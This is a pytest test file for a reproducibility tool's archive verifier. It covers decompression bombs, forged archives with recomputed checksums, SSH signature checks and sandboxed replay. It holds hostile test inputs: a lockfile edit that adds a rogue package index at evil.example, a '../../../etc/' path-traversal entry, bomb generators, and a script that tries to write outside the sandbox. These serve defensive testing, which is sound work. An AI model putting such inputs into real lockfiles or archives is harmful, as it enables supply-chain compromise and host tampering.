"""Archives from someone else: bombs refused while streaming, generated members derived again
from the sealed runs at verify time, one root digest over every byte, SSH signatures, and
verify never reading outside the archive."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from reprokit._model.version import __version__
from reprokit._verbs.archive import Limits, UnsafeArchive, safe_extract
from tests.conftest import cli
from tests.e2e.test_archive import make_archive, recorded  # noqa: F401 - a fixture

pytestmark = pytest.mark.stress
DETECTED: dict[str, bool] = {}


def _zeros_tar(path: Path, size: int) -> None:
    class Zeros(io.RawIOBase):
        def __init__(self) -> None:
            self.left = size

        def readable(self) -> bool:
            return True

        def readinto(self, b) -> int:
            n = min(len(b), self.left)
            b[:n] = bytes(n)
            self.left -= n
            return n

    with tarfile.open(path, "w:gz", compresslevel=1) as tf:
        info = tarfile.TarInfo("paper/zeros")
        info.size = size
        tf.addfile(info, io.BufferedReader(Zeros()))


def _zeros_zip(path: Path, size: int) -> None:
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf,
        zf.open("paper/zeros", "w", force_zip64=True) as fh,
    ):
        chunk = bytes(1 << 20)
        for _ in range(size >> 20):
            fh.write(chunk)


@pytest.mark.parametrize("kind", ["tar.gz", "zip"])
def test_a_decompression_bomb_is_refused_by_its_ratio_before_writing(tmp_path, kind):
    bomb = tmp_path / f"bomb.{kind}"
    (_zeros_tar if kind == "tar.gz" else _zeros_zip)(bomb, 256 << 20)
    assert bomb.stat().st_size < 2 << 20
    with pytest.raises(UnsafeArchive, match="decompression bomb"):
        safe_extract(str(bomb), str(tmp_path / "out"), Limits())
    assert not any((tmp_path / "out").rglob("zeros"))
    res = cli(tmp_path, "verify", str(bomb))
    DETECTED[f"bomb {kind}"] = res.returncode == 2
    assert res.returncode == 2 and "bomb" in res.stderr


def _repack(src: Path, dst: Path, change) -> None:
    """Rewrite a tar.gz archive with ``change(top_folder)`` applied to its extracted content,
    CHECKSUMS.sha256 recomputed as a careful forger would."""
    work = dst.parent / (dst.name + ".d")
    with tarfile.open(src) as tf:
        tf.extractall(work, filter="tar")
    (top,) = list(work.iterdir())
    change(top)
    lines = []
    for p in sorted(top.rglob("*")):
        rel = p.relative_to(top).as_posix()
        if p.is_file() and not p.is_symlink() and rel != "CHECKSUMS.sha256":
            lines.append(f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {rel}\n")
    (top / "CHECKSUMS.sha256").write_text("".join(lines))
    with tarfile.open(dst, "w:gz") as tf:
        tf.add(top, arcname=top.name)
    shutil.rmtree(work)


def _append(rel: str, text: str):
    def change(top: Path) -> None:
        p = top / rel
        p.chmod(0o644)
        p.write_text(p.read_text() + text)

    return change


def _crate_params(top: Path) -> None:
    p = top / "ro-crate-metadata.json"
    p.chmod(0o644)
    p.write_text(p.read_text().replace('"lr"', '"learning_rate"'))


def _crate_escape(top: Path) -> None:
    p = top / "ro-crate-metadata.json"
    p.chmod(0o644)
    crate = json.loads(p.read_text())
    for ent in crate["@graph"]:
        if ent.get("@type") == "SoftwareApplication":
            ent["hasPart"] = {"@id": "../../../../../../etc/"}
    p.write_text(json.dumps(crate, indent=2, sort_keys=True) + "\n")


def _add_citation(top: Path) -> None:
    (top / "CITATION.cff").unlink(missing_ok=True)
    (top / "CITATION.cff").write_text("cff-version: 1.2.0\ntitle: somebody else's\n")


def _replace(rel: str, old: str, new: str, count: int = 1):
    def change(top: Path) -> None:
        p = top / rel
        p.chmod(0o644)
        text = p.read_text()
        assert old in text, f"{old!r} not in {rel}"
        p.write_text(text.replace(old, new, count))

    return change


def _claims_value(top: Path) -> None:
    """The claims table says another value (its settings line left as it was)."""
    p = top / "REPRODUCE.md"
    p.chmod(0o644)
    lines = p.read_text().splitlines(keepends=True)
    row = next(i for i, line in enumerate(lines) if line.startswith("| Table 2, row 1 |"))
    cells = lines[row].split(" | ")
    cells[-1] = "0.999 |\n"
    lines[row] = " | ".join(cells)
    p.write_text("".join(lines))


def _claims_both(top: Path) -> None:
    """A claim reworded in the table and on the settings line alike: free text by the author,
    which no derivation can pin (the root digest does)."""
    _replace("REPRODUCE.md", "Table 2, row 1", "Table 2, row 1 (state of the art)", 2)(top)


EDITS = {
    "requirements.lock: extra index and package": _append(
        "requirements.lock", "--extra-index-url https://evil.example/simple\nevilpkg==1.0\n"
    ),
    "RO-Crate params": _crate_params,
    "RO-Crate hasPart ../..": _crate_escape,
    "CITATION.cff replaced": _add_citation,
    "a member added": lambda top: (top / "NOTICE.md").write_text("Endorsed by the reviewers.\n"),
    "REPRODUCE.md prose": _replace(
        "REPRODUCE.md", "Expected results:", "Expected results (checked by the reviewers):"
    ),
    "REPRODUCE.md runs table": _replace(
        "REPRODUCE.md", "| completed |", "| completed, 3x faster |"
    ),
    "REPRODUCE.md claims value": _claims_value,
    "REPRODUCE.md settings line (tolerance)": _replace(
        "REPRODUCE.md", '"rtol": 0.0', '"rtol": 0.5'
    ),
    "REPRODUCE.md settings line removed": lambda top: _strip_settings(top),
    "REPRODUCE.md appended to": _append("REPRODUCE.md", "\nAll claims were checked.\n"),
}


def _strip_settings(top: Path) -> None:
    p = top / "REPRODUCE.md"
    p.chmod(0o644)
    p.write_text(p.read_text().rstrip("\n").rsplit("\n", 1)[0] + "\n")


@pytest.mark.parametrize("name", list(EDITS))
def test_an_edit_of_a_generated_member_with_checksums_recomputed_is_tampered(
    recorded,  # noqa: F811
    tmp_path,
    name,
):
    repo, m = recorded
    claims = tmp_path / "claims.yaml"
    claims.write_text(f"- claim: Table 2, row 1\n  run: {m.id}\n  result: w\n")
    good = make_archive(repo, tmp_path / "paper.tar.gz", "--claims", str(claims))
    assert cli(tmp_path, "verify", str(good)).returncode == 0
    bad = tmp_path / "forged.tar.gz"
    _repack(good, bad, EDITS[name])
    res = cli(tmp_path, "verify", str(bad))
    DETECTED[f"edit {name}"] = res.returncode == 1
    assert res.returncode == 1, res.stdout + res.stderr
    assert "tampered" in res.stderr


def test_the_root_digest_is_printed_by_archive_and_verify_and_pins_every_byte(
    recorded,  # noqa: F811
    tmp_path,
):
    repo, m = recorded
    out = tmp_path / "paper.tar.gz"
    made = cli(repo, "archive", "latest", "-o", str(out), "--name", "paper")
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    assert f"sha256 {digest}" in made.stdout
    checked = cli(tmp_path, "verify", str(out))
    assert checked.returncode == 0 and f"sha256 {digest}" in checked.stdout
    # an edit no derivation can catch (a claim's wording, which the author wrote, changed in
    # the table and in the settings alike) is intact but changes the root digest
    claims = tmp_path / "claims.yaml"
    claims.write_text(f"- claim: Table 2, row 1\n  run: {m.id}\n  result: w\n")
    out = tmp_path / "claimed.tar.gz"
    made = cli(
        repo, "archive", "latest", "-o", str(out), "--name", "paper", "--claims", str(claims)
    )
    digest = hashlib.sha256(out.read_bytes()).hexdigest()
    forged = tmp_path / "forged.tar.gz"
    _repack(out, forged, _claims_both)
    again = cli(tmp_path, "verify", str(forged))
    assert again.returncode == 0, again.stderr
    assert f"sha256 {digest}" in made.stdout and f"sha256 {digest}" not in again.stdout


def _keygen(path: Path, comment: str) -> Path:
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(path)],
                   check=True, capture_output=True)  # fmt: skip
    return path


def test_ssh_signatures_sign_and_verify_as_git_does(recorded, tmp_path):  # noqa: F811
    if shutil.which("ssh-keygen") is None:
        pytest.skip("ssh-keygen is not installed")
    repo, _ = recorded
    key = _keygen(tmp_path / "id_author", "author")
    other = _keygen(tmp_path / "id_other", "other")
    allowed = tmp_path / "allowed_signers"
    allowed.write_text(f"author@example.com {(tmp_path / 'id_author.pub').read_text()}")
    out = tmp_path / "paper.tar.gz"
    res = cli(repo, "archive", "latest", "-o", str(out), "--sign", str(key))
    assert res.returncode == 0, res.stderr
    assert (tmp_path / "paper.tar.gz.sig").is_file()
    ok = cli(tmp_path, "verify", str(out), "--allowed-signers", str(allowed))
    assert ok.returncode == 0, ok.stderr
    assert "signed by author@example.com" in ok.stdout
    # a flipped byte in the archive
    data = bytearray(out.read_bytes())
    data[len(data) // 2] ^= 1
    flipped = tmp_path / "flipped.tar.gz"
    flipped.write_bytes(bytes(data))
    shutil.copy(tmp_path / "paper.tar.gz.sig", tmp_path / "flipped.tar.gz.sig")
    res = cli(tmp_path, "verify", str(flipped), "--allowed-signers", str(allowed))
    assert res.returncode in (1, 2) and "tampered" in res.stderr or "damaged" in res.stderr
    # signed by a key not allowed
    cli(repo, "archive", "latest", "-o", str(tmp_path / "other.tar.gz"), "--sign", str(other))
    res = cli(tmp_path, "verify", str(tmp_path / "other.tar.gz"), "--allowed-signers", str(allowed))
    assert res.returncode == 1 and "not by anyone" in res.stderr
    # not signed at all
    (tmp_path / "other.tar.gz.sig").unlink()
    res = cli(tmp_path, "verify", str(tmp_path / "other.tar.gz"), "--allowed-signers", str(allowed))
    assert res.returncode == 1 and "not signed" in res.stderr


ESCAPE = """
import os, reprokit

@reprokit.track(seed=0)
def train(lr=0.1):
    try:
        with open(os.environ["OUTSIDE"], "w") as fh:
            fh.write("escaped")
    except OSError:
        pass
    return lr

if __name__ == "__main__":
    train()
"""


def _escape_archive(tmp_path: Path) -> tuple[Path, dict]:
    from tests.conftest import clean_env, make_repo, run_python

    repo = make_repo(tmp_path / "repo", {"train.py": ESCAPE})
    outside = tmp_path / "outside.txt"
    env = clean_env(OUTSIDE=str(outside))
    res = run_python(repo, ESCAPE, env=env, script="train.py")
    assert res.returncode == 0, res.stderr
    outside.unlink()
    out = make_archive(repo, tmp_path / "paper.tar.gz")
    return out, env


def test_an_archive_replay_runs_in_a_sandbox_that_keeps_the_host_read_only(tmp_path):
    from reprokit._reexec.sandbox import available

    if available()[0] is None:
        pytest.skip(f"no sandbox here: {available()[1]}")
    out, env = _escape_archive(tmp_path)
    res = cli(tmp_path, "verify", str(out), "--replay", env=env)
    assert "sandbox: bubblewrap" in res.stderr, res.stderr
    assert not (tmp_path / "outside.txt").exists()
    res = cli(tmp_path, "verify", str(out), "--replay", "--no-sandbox", env=env)
    assert res.returncode == 0, res.stderr
    assert (tmp_path / "outside.txt").read_text() == "escaped"


def test_without_a_sandbox_an_archive_replay_asks_for_trust(tmp_path):
    out, env = _escape_archive(tmp_path)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("git",):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    env = dict(env, PATH=str(bin_dir))
    res = cli(tmp_path, "verify", str(out), "--replay", env=env)
    assert res.returncode == 2 and "no sandbox here" in res.stderr, res.stderr
    assert not (tmp_path / "outside.txt").exists()
    res = cli(tmp_path, "verify", str(out), "--replay", "--trust", env=env)
    assert res.returncode == 0, res.stderr


def test_zz_archive_trust_figure(figure):
    if not DETECTED:
        pytest.skip("run with the cases above")
    edits = {k: v for k, v in DETECTED.items() if k.startswith("edit")}
    bombs = {k: v for k, v in DETECTED.items() if k.startswith("bomb")}
    figure(
        "archive edits outside the sealed runs detected / tried (checksums recomputed)",
        f"{sum(edits.values())} / {len(edits)} (a claim reworded in its table and settings "
        "alike: root digest only)",
    )
    figure(
        "decompression bombs refused / tried (2 MB -> 256 MiB)",
        f"{sum(bombs.values())} / {len(bombs)}",
    )


INSTALL_STEP = """
import socket, sys
try:
    open(sys.argv[1], "w").write("escaped")
    outside = "written"
except OSError:
    outside = "refused"
open(sys.argv[2], "w").write("built")
print(outside, len(socket.if_nameindex()))
"""


def test_the_virtualenv_of_a_sandboxed_replay_is_built_in_the_sandbox_with_the_network(tmp_path):
    """pip runs a package's build code: it runs inside the sandbox, the host read-only,
    writing only in the replay's folder, with the host's network (for the index)."""
    import socket

    from reprokit._reexec.sandbox import available
    from reprokit._verbs.archive import install_step

    if available()[0] is None:
        pytest.skip(f"no sandbox here: {available()[1]}")
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    outside, inside = tmp_path / "outside.txt", scratch / "venv-file"
    cmd = [sys.executable, "-c", INSTALL_STEP, str(outside), str(inside)]
    proc = install_step(cmd, str(scratch), sandboxed=True)
    assert proc.returncode == 0, proc.stdout
    assert proc.stdout.split() == ["refused", str(len(socket.if_nameindex()))]
    assert not outside.exists() and inside.read_text() == "built"
    # trusted (no sandbox): the step runs with the user's rights
    proc = install_step(cmd, str(scratch), sandboxed=False)
    assert proc.stdout.split()[0] == "written" and outside.read_text() == "escaped"


def test_a_reproduce_md_of_another_reprokit_version_gets_a_note_not_a_false_alarm(
    recorded,  # noqa: F811
    tmp_path,
):
    repo, _ = recorded
    good = make_archive(repo, tmp_path / "paper.tar.gz")
    older = tmp_path / "older.tar.gz"
    # as an older release would have written it (another template: not derived again here)
    _repack(
        good, older, _replace("REPRODUCE.md", f'"version": "{__version__}"', '"version": "0.0.9"')
    )
    res = cli(tmp_path, "verify", str(older))
    assert res.returncode == 0, res.stderr
    assert "note: REPRODUCE.md was written by reprokit 0.0.9" in res.stderr
    data = json.loads(cli(tmp_path, "verify", str(older), "--json").stdout)
    assert data["notes"] and data["intact"] is True
